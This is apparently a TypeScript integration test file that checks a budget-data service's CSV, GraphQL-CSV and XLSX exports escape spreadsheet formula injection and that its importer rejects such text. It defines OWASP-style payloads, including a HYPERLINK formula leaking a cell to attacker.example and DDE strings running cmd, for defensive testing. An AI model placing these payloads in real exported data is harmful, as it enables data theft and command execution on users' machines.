import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inSchema } from '../../shared/database/database.ts';
import type { PlanFile } from '../../shared/plan-file/plan-file.types.ts';
import { parseRegionCode, regionSchemaName } from '../../shared/regions/region-codes.ts';
import { ImportFileError, importFiles } from '../../ingest/importing/import-files.ts';
import { bumpDataVersion } from '../../subgraphs/national/data-version/data-version.ts';
import { prepareNationalDatabase } from '../../subgraphs/national/national-service.ts';
import { registerPlan } from '../../subgraphs/national/plan-registry/register-plan.ts';
import type { RegionalDatabase } from '../../subgraphs/regional/database/regional-database.types.ts';
import { storePlan } from '../../subgraphs/regional/plan-import/store-plan.ts';
import { startGraphCluster, type GraphCluster } from '../support/graph-cluster.ts';
import {
  openTestDatabase,
  pgDump,
  snapshotSchemas,
  TEST_ENGINES,
  type TestDatabase,
} from '../support/test-database.ts';

/** Payloads from OWASP's CSV-injection page and its usual variants, one per trigger character. */
const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Rincian")';
const PLUS_DDE = "+cmd|' /C calc'!A0";
const AT_DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS_DDE = "-2+3+cmd|' /C calc'!A0";
const TAB_LEADING = '\t=1+2';
const CR_LEADING = '\r=1+2';

const readPlan = (name: string): PlanFile => JSON.parse(readFileSync(`data/plans/${name}.plan.json`, 'utf8'));

/**
 * VI 2022, as an import of an older version (without the text check) would have written it: VI 2021's plan
 * with formulas in its text, and figures lowered so that the changes from 2021 are negative numbers.
 */
function hostileVi2022(): PlanFile {
  const plan = readPlan('VI-2021');
  plan.year = 2022;
  const program = (code: string) => plan.budgetLines.find((line) => line.code === code)!;
  program('088.01.CO').name = HYPERLINK;
  program('088.01.CO').amount -= 1_000_000;
  program('088.01.WA').name = PLUS_DDE;
  plan.totalBudget!.amount -= 1_000_000;
  plan.indicatorTargets.find((indicator) => indicator.nationalIndicatorId === 'IKU-09')!.target = 74.5;
  const counterparts = [AT_DDE, MINUS_DDE, TAB_LEADING, CR_LEADING];
  expect(plan.staff.movements.length).toBeGreaterThanOrEqual(counterparts.length);
  counterparts.forEach((counterpart, index) => {
    plan.staff.movements[index]!.counterpart = counterpart;
  });
  return plan;
}

function writePlanFile(plan: unknown, name: string): { path: string; text: string } {
  const text = JSON.stringify(plan, null, 2);
  const path = join(mkdtempSync(join(tmpdir(), 'plan-')), name);
  writeFileSync(path, text);
  return { path, text };
}

/** The 1-based line of the first occurrence of `fragment` in `text`: where the import must point. */
const lineOf = (text: string, fragment: string) => text.slice(0, text.indexOf(fragment)).split('\n').length;

describe.each(TEST_ENGINES)(
  'formula injection on %s: CSV answers neutralise formulas, the import refuses them',
  (engine) => {
    let database: TestDatabase;
    let cluster: GraphCluster;

    beforeAll(async () => {
      database = await openTestDatabase(engine);
      cluster = await startGraphCluster(database, ['VI', 'XII']);
      const { handle, schemaPrefix } = database;
      const plan = hostileVi2022();
      // What importFiles does after validating, without the validation.
      await storePlan(inSchema<RegionalDatabase>(handle, regionSchemaName(parseRegionCode('VI'), schemaPrefix)), plan);
      const national = await prepareNationalDatabase(handle, schemaPrefix);
      await registerPlan(national, plan);
      await bumpDataVersion(national);
    });
    afterAll(async () => {
      await cluster?.stop();
      await database?.dispose();
    });

    async function getCsv(path: string, headers: Record<string, string> = {}) {
      const response = await fetch(`${cluster.gatewayUrl}${path}`, { headers });
      const text = await response.text();
      expect(response.status, text).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const [header = [], ...records] = parse(text) as string[][];
      return records.map((record) => Object.fromEntries(header.map((name, index) => [name, record[index]!])));
    }

    const graphqlCsv = (query: string) => getCsv(`/graphql?query=${encodeURIComponent(query)}`, { accept: 'text/csv' });

    it('escapes formula text in /export/budget.csv with a leading quote, and keeps a negative Rupiah change a plain number', async () => {
      const rows = await getCsv('/export/budget.csv?level=PROGRAM&regions=VI&years=2021,2022');
      const row = (year: string, code: string) => rows.find((each) => each.year === year && each.code === code)!;
      expect(row('2022', '088.01.CO')).toMatchObject({
        printed_name: `'${HYPERLINK}`,
        amount_rupiah: '1299000000',
        amount_change_rupiah: '-1000000',
      });
      expect(row('2022', '088.01.WA')).toMatchObject({ printed_name: `'${PLUS_DDE}`, amount_change_rupiah: '0' });
      // Text that is no formula is written as it is.
      expect(row('2021', '088.01.CO')).toMatchObject({
        printed_name: 'Program Kebijakan, Pembinaan Profesi, dan Tata Kelola ASN',
        region_name: 'Kantor Regional VI BKN Medan',
      });
    });

    it('keeps negative changes plain numbers in /export/spending.csv and /export/indicators.csv', async () => {
      const spending = await getCsv('/export/spending.csv?regions=VI&years=2021,2022');
      expect(spending.find((row) => row.year === '2022')).toMatchObject({ total_change_rupiah: '-1000000' });
      const indicators = await getCsv('/export/indicators.csv?indicators=IKU-09&regions=VI&years=2021,2022');
      expect(indicators.find((row) => row.year === '2022')).toMatchObject({ target: '74.5', target_change: '-2.5' });
    });

    it('escapes text starting with @, -, tab or carriage return in /export/staff-movements.csv', async () => {
      const rows = await getCsv('/export/staff-movements.csv?regions=VI&years=2022');
      expect(rows.slice(0, 4).map((row) => row.counterpart)).toEqual([
        `'${AT_DDE}`,
        `'${MINUS_DDE}`,
        `'${TAB_LEADING}`,
        `'${CR_LEADING}`,
      ]);
    });

    it('escapes formula text in GET /graphql with Accept: text/csv, and keeps numbers, negative ones too, plain', async () => {
      const lines = await graphqlCsv(
        '{ plan(region: "VI", year: 2022) { budgetLines(level: PROGRAM) { code name amount } } }',
      );
      expect(lines).toEqual([
        { code: '088.01.CO', name: `'${HYPERLINK}`, amount: '1299000000' },
        { code: '088.01.WA', name: `'${PLUS_DDE}`, amount: '10918328000' },
      ]);
      const comparison = await graphqlCsv(
        '{ compareBudget(level: PROGRAM, regions: ["VI"], years: [2022]) { rows { code name amountChange } } }',
      );
      expect(comparison.find((row) => row.code === '088.01.CO')).toEqual({
        code: '088.01.CO',
        name: `'${HYPERLINK}`,
        amountChange: '-1000000',
      });
      const movements = await graphqlCsv('{ plan(region: "VI", year: 2022) { staff { movements { counterpart } } } }');
      expect(movements.slice(0, 4).map((row) => row.counterpart)).toEqual([
        `'${AT_DDE}`,
        `'${MINUS_DDE}`,
        `'${TAB_LEADING}`,
        `'${CR_LEADING}`,
      ]);
    });

    it('escapes formula text in the excel-id CSV too, and writes it into XLSX as a text cell, never a formula', async () => {
      const excel = await fetch(
        `${cluster.gatewayUrl}/export/budget.csv?level=PROGRAM&regions=VI&years=2022&dialect=excel-id`,
      );
      const rows = parse(Buffer.from(await excel.arrayBuffer()), { columns: true, delimiter: ';', bom: true }) as Array<
        Record<string, string>
      >;
      expect(rows.find((row) => row.code === '088.01.CO')).toMatchObject({
        printed_name: `'${HYPERLINK}`,
        amount_change_rupiah: '-1000000',
      });

      const response = await fetch(`${cluster.gatewayUrl}/export/budget.xlsx?level=PROGRAM&regions=VI&years=2022`);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as never);
      const sheet = workbook.getWorksheet('Data')!;
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      const cells = [...Array(sheet.rowCount - 1).keys()].map((index) => sheet.getRow(index + 2));
      const co = cells.find((row) => row.getCell(header.indexOf('code') + 1).value === '088.01.CO')!;
      const name = co.getCell(header.indexOf('printed_name') + 1);
      expect(name.type).toBe(ExcelJS.ValueType.String);
      expect(name.value).toBe(HYPERLINK);
      expect(co.getCell(header.indexOf('amount_change_rupiah') + 1).value).toBe(-1000000);
      const formulas = cells
        .flatMap((row) => header.map((_name, index) => row.getCell(index + 1)))
        .filter((cell) => cell.type === ExcelJS.ValueType.Formula);
      expect(formulas).toEqual([]);
    });

    it('leaves JSON-lines exports as the graph answers: text as it is, numbers as JSON numbers', async () => {
      const response = await fetch(`${cluster.gatewayUrl}/export/budget.jsonl?level=PROGRAM&regions=VI&years=2022`);
      const objects = (await response.text())
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line));
      expect(objects.find((object) => object.code === '088.01.CO')).toMatchObject({
        printed_name: HYPERLINK,
        amount_change_rupiah: -1000000,
      });
    });

    it('refuses files with formula text or control characters, naming file:line, and leaves the database unchanged', async () => {
      const before = await snapshotSchemas(database.handle, database.schemaPrefix);
      const dumpBefore = pgDump(engine, database.schemaPrefix);
      const withHyperlink = readPlan('VI-2021');
      withHyperlink.budgetLines[5]!.name = '=HYPERLINK("http://attacker.example","x")';
      const withNul = readPlan('XII-2024');
      withNul.indicatorTargets[2]!.name = 'Indeks\u0000Profesionalitas';
      const withPlus = readPlan('XII-2023');
      withPlus.indicatorTargets[0]!.unit = '+cmd';
      const files = [
        writePlanFile(withHyperlink, 'VI-2021.plan.json'),
        writePlanFile(withNul, 'XII-2024.plan.json'),
        writePlanFile(withPlus, 'XII-2023.plan.json'),
      ];
      const realisation = {
        format: 'bkn-realisation/1',
        region: 'VI',
        year: 2021,
        kind: 'MANUAL',
        document: { file: 'test', title: 'test realisations' },
        flags: [],
        indicatorRealisations: [
          { code: '7.a', period: 'YEAR', value: 80, source: { location: 'Laporan', printed: AT_DDE }, flags: [] },
        ],
        budgetRealisations: [],
      };
      const realisationFile = writePlanFile(realisation, 'VI-2021.realisation.json');

      const error = await importFiles(
        database.handle,
        [...files, realisationFile].map((file) => file.path),
        { schemaPrefix: database.schemaPrefix },
      ).catch((caught) => caught);
      expect(error).toBeInstanceOf(ImportFileError);
      const report = (error as ImportFileError).problems;
      const [hyperlink, nul, plus] = files;
      expect(report).toContain(
        `VI-2021.plan.json:${lineOf(hyperlink!.text, '=HYPERLINK')} budgetLines[5].name: ` +
          'text must not start like a spreadsheet formula (=, + or @ before a letter), ' +
          'which an exported CSV would run; got "=HYPERLINK(\\"http://attacker.example\\",\\"x\\")"',
      );
      expect(report).toContain(
        `XII-2024.plan.json:${lineOf(nul!.text, 'Indeks\\u0000')} indicatorTargets[2].name: ` +
          'text must not contain control characters (tab, line break, U+0000 …); ' +
          'got U+0000 at character 7 of "Indeks\\u0000Profesionalitas"',
      );
      expect(report).toContainEqual(
        expect.stringMatching(
          new RegExp(
            `^XII-2023\\.plan\\.json:${lineOf(plus!.text, '"+cmd"')} indicatorTargets\\[0\\]\\.unit: ` +
              'text must not start like a spreadsheet formula',
          ),
        ),
      );
      expect(report).toContainEqual(
        expect.stringMatching(
          new RegExp(
            `^VI-2021\\.realisation\\.json:${lineOf(realisationFile.text, '"@SUM')} ` +
              'indicatorRealisations\\[0\\]\\.source\\.printed: text must not start like a spreadsheet formula',
          ),
        ),
      );
      expect(report).toHaveLength(4);
      expect(await snapshotSchemas(database.handle, database.schemaPrefix)).toBe(before);
      if (dumpBefore !== undefined) expect(pgDump(engine, database.schemaPrefix)).toBe(dumpBefore);
    });

    it('accepts document text that starts with a dash: a list item, a negative figure as printed', async () => {
      const plan = readPlan('VI-2021');
      plan.year = 2023;
      plan.budgetLines[5]!.name = '- Belanja barang operasional';
      plan.budgetLines[5]!.source.printed = '-2,5';
      const [imported] = await importFiles(database.handle, [writePlanFile(plan, 'VI-2023.plan.json').path], {
        schemaPrefix: database.schemaPrefix,
        dryRun: true,
      });
      expect(imported).toMatchObject({ region: 'VI', year: 2023, outcome: 'checked' });
    });
  },
);
